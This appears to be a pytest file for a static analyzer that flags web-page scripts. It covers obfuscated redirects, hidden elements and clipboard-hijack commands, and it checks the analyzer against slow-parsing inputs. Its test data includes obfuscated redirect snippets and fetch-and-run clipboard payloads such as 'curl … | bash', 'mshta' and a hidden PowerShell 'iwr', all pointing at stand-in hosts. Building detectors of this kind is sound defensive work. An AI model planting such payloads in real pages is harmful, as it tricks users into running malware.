from __future__ import annotations

import base64
import time

import pytest

from auditor.content.page.scripts import analyze_script_code

AWAY = "https://away.example/x"


def codes(text: str) -> str:
    return ",".join(str(ord(letter)) for letter in text)


@pytest.mark.parametrize(
    "code",
    [
        f'location.href="{AWAY}"',
        f"window.location = '{AWAY}';",
        f"top.location.replace('{AWAY}')",
        f"setTimeout(\"location='{AWAY}'\", 10)",
        f"location[atob('cmVwbGFjZQ==')](atob('{base64.b64encode(AWAY.encode()).decode()}'))",
        f"eval(String.fromCharCode({codes(f'location={AWAY!r}')}))",
        "var a='https:/'+'/away.exam'+'ple/x';self['loca'+'tion']=a",
        "window['\\x6cocation']='\\x68ttps://away.example/x'",
        f"eval(unescape('{''.join(f'%{ord(letter):02x}' for letter in f'location={AWAY!r}')}'))",
    ],
)
def test_where_a_script_leads_is_read_without_running_it(code: str) -> None:
    script = analyze_script_code(code)
    assert script.leads
    assert AWAY in (*script.addresses, *script.decoded_addresses)


@pytest.mark.parametrize(
    "code",
    [
        "b.onclick=function(){window.location.href='https://zalo.me/share'}",
        "function go(){location.href='https://a.example'}",
        "if (location.hash == '#x') {y()}",
        "var here = window.location.pathname;",
    ],
)
def test_what_waits_for_a_click_does_not_lead_away(code: str) -> None:
    assert not analyze_script_code(code).leads


def test_what_it_writes_and_hides_is_told() -> None:
    script = analyze_script_code(
        "document.write('<a href=//x.example>y</a>');var e=document.getElementById('z');e.style.display='none'"
    )
    assert script.written_html == ("<a href=//x.example>y</a>",)
    assert script.hides == ("z",)


def test_a_packed_script_is_unpacked() -> None:
    packed = "eval(function(p,a,c,k,e,d){return p}('0.1=\"2://3.4\"',5,5,'window|location|https|packed|example'.split('|'),0,{}))"
    script = analyze_script_code(packed)
    assert script.decoded_addresses == ("https://packed.example",)
    assert script.leads


@pytest.mark.parametrize(
    "evil",
    ["'+'" * 60_000, "'" + "\\" * 200_000, "atob('" * 30_000, "}('a',62,1,'b'.split('|')" * 8_000, "[11,11" * 30_000],
)
def test_no_script_costs_much(evil: str) -> None:
    before = time.process_time()
    analyze_script_code(evil)
    assert time.process_time() - before < 0.8


def test_a_host_that_is_joined_from_an_array_is_read() -> None:
    said = analyze_script_code('location="https://"+["aw","ay"].join("")+".example/x"')
    assert said.leads and AWAY in said.decoded_addresses


@pytest.mark.parametrize(
    ("code", "addresses"),
    [
        ('x("https://q.example/a.js")', ("https://q.example/a.js",)),
        ('x("//q.example/a.js")', ("//q.example/a.js",)),
        ("//e.preventDefault();", ()),
    ],
)
def test_a_host_of_one_letter_is_an_address_where_it_is_said_to_be_one(code: str, addresses: tuple[str, ...]) -> None:
    assert analyze_script_code(code).addresses == addresses


@pytest.mark.parametrize(
    ("code", "is_command"),
    [
        ('navigator.clipboard.writeText("mshta https://a.example/b")', True),
        ("let t=`powershell -w h -c iwr a.example`;navigator.clipboard.writeText(t)", True),
        ("navigator.clipboard.writeText('curl -s https://a.example/b | bash')", True),
        ('t.value="cmd /c start a";t.select();document.execCommand("copy")', True),
        ("navigator.clipboard.writeText(location.href)", False),
        ('navigator.clipboard.writeText("Số 12/QĐ-UBND, command: cmd")', False),
        ('show("mshta https://a.example/b")', False),
    ],
)
def test_a_command_laid_into_the_clipboard_is_told(code: str, is_command: bool) -> None:
    assert ("copies_command" in analyze_script_code(code).acts) is is_command


@pytest.mark.parametrize("code", ['["a"' + " " * 8, '["a",', "curl ", "'curl x", "content:'", '"cmd ', "//a."])
def test_hostile_repetition_costs_no_more_than_its_length(code: str) -> None:
    before = time.process_time()
    analyze_script_code("navigator.clipboard.writeText(x);join " + code * (200_000 // len(code)))
    analyze_script_code("join [" + '"a"         ' * 16_000)
    assert time.process_time() - before < 2
